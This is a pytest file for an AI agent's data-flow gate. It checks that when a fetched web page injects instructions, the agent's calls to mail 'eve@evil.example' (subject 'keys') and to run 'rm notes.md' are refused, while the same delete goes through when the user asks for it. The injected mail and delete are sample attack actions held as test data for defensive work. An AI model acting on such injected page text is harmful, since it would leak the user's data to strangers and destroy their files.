"""A fetched page that tells the agent to mail a stranger and delete a file, through the real
loop, the real web, mail, shell and files skills and their guard: the permission rules (and
a person) allow both calls, and the data-flow gate alone refuses them, naming the page."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from page_server import PageServer

from agent.events import ApprovalRequested, Event, ToolResultEvent
from agent.loop import AgentLoop
from agent.messages import AssistantMessage, ToolCall
from agent.run_context import RunContext
from agent.session import Session
from backends.fake import FakeBackend
from sandbox.settings import SandboxSettings
from skills.context import SkillContext
from skills.mail.config import MailAccount, MailSettings
from skills.toolbox import build_toolbox
from skills.web.config import WebSettings


@pytest.fixture
def site() -> Iterator[PageServer]:
    with PageServer() as server:
        yield server


def run(tmp_path: Path, site: PageServer, task: str, *calls: tuple[str, dict]) -> list[Event]:
    ws = tmp_path / "ws"
    ws.mkdir(exist_ok=True)
    (ws / "notes.md").write_text("my notes\n")
    # Nothing listens on port 9: a mail that got past the gate would fail, not vanish.
    account = MailAccount(
        address="me@example.org", smtp_host="127.0.0.1", smtp_port=9, smtp_security="none"
    )
    options = {
        "web": WebSettings(enabled=True, hosts=[f"127.0.0.1:{site.port}"]),
        "mail": MailSettings(accounts={"me": account}),
    }
    # The rules let the delete run and a person says yes to every permission question (mail
    # sending asks): what refuses the calls is the data-flow gate alone.
    sandbox = SandboxSettings(backend="off", allow=["shell(rm *)"])
    context = SkillContext.create(ws, sandbox, environ={}, options=options)
    box = build_toolbox(context, None, ["web", "mail", "shell", "files"], check_sandbox=False)
    turns = [AssistantMessage(tool_calls=[ToolCall.make(n, a)]) for n, a in calls]
    backend = FakeBackend([*turns, AssistantMessage(content="done")])
    context = RunContext()  # nobody attends: a data-flow question is refused, never asked
    events = []
    for event in AgentLoop(backend, box).run(Session(), task, context):
        events.append(event)
        if isinstance(event, ApprovalRequested):
            context.approvals.answer(event.id, "once", "test person")
    return events


def results(events: list[Event]) -> list[ToolResultEvent]:
    return [e for e in events if isinstance(e, ToolResultEvent)]


def test_a_pages_injected_mail_and_delete_are_refused_by_the_data_flow_gate(
    tmp_path: Path, site: PageServer
) -> None:
    page = site.url("/inject")
    events = run(
        tmp_path,
        site,
        f"Summarise the release notes at {page}",
        ("web_fetch", {"url": page}),
        ("mail_send", {"to": "eve@evil.example", "subject": "keys", "body": "here"}),
        ("shell", {"command": "rm notes.md"}),
    )
    fetched, mail, shell = results(events)
    assert fetched.ok and "eve@evil.example" in fetched.content
    for refused in (mail, shell):
        assert not refused.ok and refused.decision == "deny", refused.content
        assert f"appears only in the web page {page}" in refused.content
    assert "the to `eve@evil.example`" in mail.content
    assert (tmp_path / "ws" / "notes.md").read_text() == "my notes\n"


def test_the_users_own_words_still_let_the_same_delete_through(
    tmp_path: Path, site: PageServer
) -> None:
    page = site.url("/inject")
    events = run(
        tmp_path,
        site,
        f"Read {page}, then rm notes.md",
        ("web_fetch", {"url": page}),
        ("shell", {"command": "rm notes.md"}),
    )
    assert all(r.ok for r in results(events)), [r.content for r in results(events)]
    assert not (tmp_path / "ws" / "notes.md").exists()
